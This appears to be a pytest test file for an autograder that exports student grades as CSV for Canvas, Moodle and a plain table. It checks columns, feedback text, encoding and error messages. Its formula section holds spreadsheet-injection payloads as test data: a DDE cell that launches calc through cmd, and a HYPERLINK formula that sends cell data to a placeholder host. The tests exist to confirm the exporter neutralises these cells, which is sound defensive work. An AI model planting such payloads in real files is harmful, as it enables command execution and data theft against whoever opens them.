"""The points as CSV: the columns that platforms read, and cells that no spreadsheet runs."""

import csv
import io

import pytest
from sample_class import CLASSIC, FULL, INVERTED, LESSON, WHY, a_class, answer, student

from autograder.cells import csv_text, neutral
from autograder.exercise import CourseError
from autograder.report import PLATFORMS, StudentResult, export

ADA = student(
    "ada",
    FULL,
    answer(CLASSIC, 1.5, 2, "partial", "hidden 0.731", advice="Off at <test>.", next_step="Scale."),
    first_name="Ada",
    last_name='Love, "L."',
    email="ada@example.org",
    lms_user_id="4711",
)
EMMY = student("emmy", FULL, answer(WHY, 0, 4, "by hand"), first_name="Emmy", email="e@example.org", lms_user_id="s-2")
PAIR = a_class((ADA, EMMY))


def rows_of(path, encoding="utf-8"):
    return list(csv.reader(io.StringIO(path.read_text(encoding), newline="")))


def test_canvas_gets_its_columns_and_the_points_possible_first(tmp_path):
    done = export(PAIR, "canvas", tmp_path / "c.csv", assignment_id=12)
    head, possible, ada, emmy = rows_of(done.path)
    assert head == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{LESSON} (12)"]
    assert possible == ["Points Possible", "", "", "", "", "7"]
    assert ada == ['Love, "L.", Ada', "4711", "", "ada", "", "4.5"]
    assert emmy == ["Emmy", "", "s-2", "emmy", "", "3"]  # an id that is no number of Canvas's own is the SIS's
    assert (done.students, done.waiting, done.left_out) == (2, ("emmy",), ())


def test_canvas_login_can_be_the_address(tmp_path):
    assert rows_of(export(PAIR, "canvas", tmp_path / "c.csv", identify="email").path)[2][3] == "ada@example.org"
    assert rows_of(tmp_path / "c.csv")[0][-1] == LESSON


@pytest.mark.parametrize(
    ("identify", "column", "value"),
    [
        (None, "Email address", "ada@example.org"),
        ("email", "Email address", "ada@example.org"),
        ("idnumber", "ID number", "4711"),
        ("username", "Username", "ada"),
    ],
)
def test_moodle_knows_students_by_the_column_chosen(tmp_path, identify, column, value):
    head, ada, emmy = rows_of(export(PAIR, "moodle", tmp_path / "m.csv", identify=identify).path)
    assert head == [column, "First name", "Last name", LESSON, "Feedback comments"]
    assert ada[:4] == [value, "Ada", 'Love, "L."', "4.5"]
    assert ada[4] == f"{CLASSIC}, 1.5 of 2: Off at &lt;test&gt;. Scale."  # Moodle shows it as HTML
    assert emmy[4] == f"{WHY}, 0 of 4: waits for a person"


def test_a_plain_table_holds_what_is_known(tmp_path):
    head, ada, emmy = rows_of(export(PAIR, "plain", tmp_path / "p.csv").path)
    assert dict(zip(head, ada, strict=True)) | {"problems": ""} == {
        **{"student": "ada", "first_name": "Ada", "last_name": 'Love, "L."', "email": "ada@example.org"},
        **{"lms_user_id": "4711", "points": "4.5", "of": "5", "waits_for_a_person": "0"},
        **{INVERTED: "3", CLASSIC: "1.5", "seconds": "", "problems": ""},
    }
    assert emmy[head.index("waits_for_a_person")] == "4" and emmy[head.index(CLASSIC)] == ""


def test_a_crash_is_told_once_in_the_feedback(tmp_path):
    lost = answer(INVERTED, 0, 3, "not run", "Python ended.", advice="Python ended.")
    one = student("ann", lost, failures=("Python ended.",))
    told = rows_of(export(a_class((one,)), "moodle", tmp_path / "m.csv", identify="username").path)[1][4]
    assert told == f"Python ended. | {INVERTED}, 0 of 3: not checked"


# ---------------------------------------------------------------- formulas


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t=", "\r=", "\t", "\r", "\n=", " =", "\u200b=", "\ufeff+", "＝", "＠"]
)
def test_a_text_that_could_be_a_formula_is_led_by_an_apostrophe(sign):
    (row,) = csv.reader(io.StringIO(csv_text([[f"{sign}cmd|' /C calc'!A0", 1]])))
    assert row[0].startswith("'") and "\t" not in row[0] and "\r" not in row[0]


@pytest.mark.parametrize("text", ["Ann", "a-b", "3 - 2", "", "'quoted'", "1e5", "李-随机", "x = 1", "a, -1"])
def test_an_ordinary_text_stays_as_it_is(text):
    assert neutral(text) == text


def test_where_a_semicolon_separates_cells_none_begins_a_formula():
    assert neutral('nice;=1+1; "-2;@x') == "nice;'=1+1; \"'-2;'@x"


def test_our_own_numbers_keep_their_sign():
    assert csv_text([[-1.5, -2, 0.1 + 0.2, 3.0, None, "-1.5"]]) == '-1.5,-2,0.3,3,"","\'-1.5"\r\n'


@pytest.mark.parametrize("number", [float("nan"), float("inf")])
def test_what_is_no_number_is_refused(number):
    with pytest.raises(ValueError, match="is no number for a table"):
        csv_text([[number]])


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_hostile_class_has_no_cell_that_runs(tmp_path, platform):
    bad = '=HYPERLINK("http://x?"&A1)\n;@x'
    one = StudentResult(
        *(bad, -1, 3, (answer(INVERTED, -1, 3, "zero", bad, bad, advice=bad, note=bad),), (bad,), (), bad, 2.0),
        *(bad, bad, bad, bad),
    )
    done = export(a_class((one,)), platform, tmp_path / "x.csv")
    for row in rows_of(done.path):
        for cell in row:
            assert cell[:1] not in {"=", "+", "@", "\t", "\r"} and (cell[:1] != "-" or float(cell) == -1)
            assert ";@" not in cell and "\n" not in cell
    assert done.altered == ((bad,) if platform != "plain" else ())


# ---------------------------------------------------------------- the file


def test_excel_is_told_that_it_is_utf_8(tmp_path):
    one = a_class((student("李-随机", FULL),))
    assert export(one, "plain", tmp_path / "p.csv", bom=True).path.read_bytes().startswith(b'\xef\xbb\xbf"student"')
    assert export(one, "plain", tmp_path / "p.csv").path.read_bytes().startswith(b'"student"')
    assert rows_of(tmp_path / "p.csv")[1][0] == "李-随机"
    assert (tmp_path / "p.csv").read_bytes().endswith(b"\r\n")


def test_what_was_there_stays_where_the_new_file_cannot_be_written(tmp_path, monkeypatch):
    path = tmp_path / "p.csv"
    path.write_text("old")
    monkeypatch.setattr(
        "pathlib.Path.replace", lambda *_: (_ for _ in ()).throw(OSError(28, "No space left on device"))
    )
    with pytest.raises(CourseError, match=r"cannot write .*p\.csv: No space left on device"):
        export(PAIR, "plain", path)
    assert [file.name for file in tmp_path.iterdir()] == ["p.csv"] and path.read_text() == "old"


NAMELESS = a_class(student(f"s{i}", FULL) for i in range(5))


@pytest.mark.parametrize(
    ("results", "platform", "options", "words"),
    [
        (a_class(()), "plain", {}, "nobody has points for 08_dropout yet: run `course grade 08_dropout` first"),
        (PAIR, "blackboard", {}, "choose one of canvas, moodle, plain"),
        (NAMELESS, "moodle", {}, "has no email for s0, s1, s2 and 2 more: add it by `nbgrader db student import`"),
        (NAMELESS, "moodle", {"identify": "idnumber"}, "has no lms_user_id for s0"),
        (NAMELESS, "canvas", {"identify": "email"}, "has no email for s0"),
        (PAIR, "canvas", {"identify": "idnumber"}, "--identify says what the login is"),
        (PAIR, "plain", {"identify": "email"}, "leave --identify out"),
        (PAIR, "moodle", {"assignment_id": 3}, "leave --assignment-id out"),
    ],
)
def test_what_cannot_be_exported_is_one_line(tmp_path, results, platform, options, words):
    with pytest.raises(CourseError) as caught:
        export(results, platform, tmp_path / "x.csv", **options)
    assert words in str(caught.value) and "\n" not in str(caught.value)
    assert not list(tmp_path.iterdir())


def test_who_has_no_grade_is_left_out_and_named(tmp_path):
    ungraded = StudentResult("zoe", 0, 0, set_aside="Not graded.")
    done = export(a_class((ADA, ungraded)), "plain", tmp_path / "p.csv")
    assert (done.left_out, len(rows_of(done.path))) == (("zoe",), 2)
